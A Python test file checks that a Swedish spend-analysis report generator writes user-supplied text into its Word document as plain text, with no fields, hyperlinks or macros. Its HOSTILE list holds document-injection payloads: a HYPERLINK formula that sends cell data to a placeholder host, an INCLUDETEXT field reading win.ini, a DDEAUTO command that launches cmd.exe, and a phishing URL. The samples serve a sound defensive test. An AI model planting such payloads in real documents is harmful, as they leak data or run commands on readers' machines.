"""No user text becomes a field, a link or a macro in the report document (issue 16)."""

from __future__ import annotations

import docx
from report_leaks import docx_parts

from spendanalys.reports.document import plain, report_document_bytes

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klicka")',
    '{ INCLUDETEXT "c:\\\\windows\\\\win.ini" }',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    "http://example.invalid/phish",
    "@SUM(A1:A9)\x01\x0b",
]


def _payload() -> dict:
    agreements = [
        {"rank": i + 1, "agreement_id": text, "name": text, "supplier": text, "kg_co2e": 1000.0 - i,
         "share_of_kg": 0.1, "requirements": "no", "end_date": "2025-06-30"}
        for i, text in enumerate(HOSTILE)
    ]  # fmt: skip
    return {
        "agreements": agreements,
        "priority": [{**a, "priority": a["rank"]} for a in agreements],
        "categories": [],
        "totals": {"spend_sek": 1e6, "kg_co2e": 5000.0, "agreements": 5, "unlinked_spend_sek": 0.0},
        "kpi": {},
        "rejected_rows": [
            {"file": HOSTILE[0], "row": 3, "column": HOSTILE[1], "reason": HOSTILE[2]}
        ],
        "factor_sets": [{"name": HOSTILE[3], "version": "1", "licence": "x", "file": "f.csv"}],
        "notes": [HOSTILE[4]],
    }


def test_hostile_text_stays_plain_text():
    data = report_document_bytes(spend=_payload(), lang="sv")
    parts = docx_parts(data)
    body = parts["word/document.xml"]
    for tag in ("<w:fldSimple", "<w:instrText", "<w:fldChar", "<w:hyperlink"):
        assert tag not in body
    assert not any("vbaProject" in name for name in parts)
    rels = parts.get("word/_rels/document.xml.rels", "")
    assert "example.invalid" not in rels and 'TargetMode="External"' not in rels
    import io

    text = {c.text for t in docx.Document(io.BytesIO(data)).tables for r in t.rows for c in r.cells}
    assert plain(HOSTILE[0]) in text and "@SUM(A1:A9)" in text  # shown as written, minus controls


def test_plain_drops_what_xml_cannot_carry():
    assert plain("a\x00b\x1fc\td\ne") == "abc\td\ne"
    assert plain(None) == ""
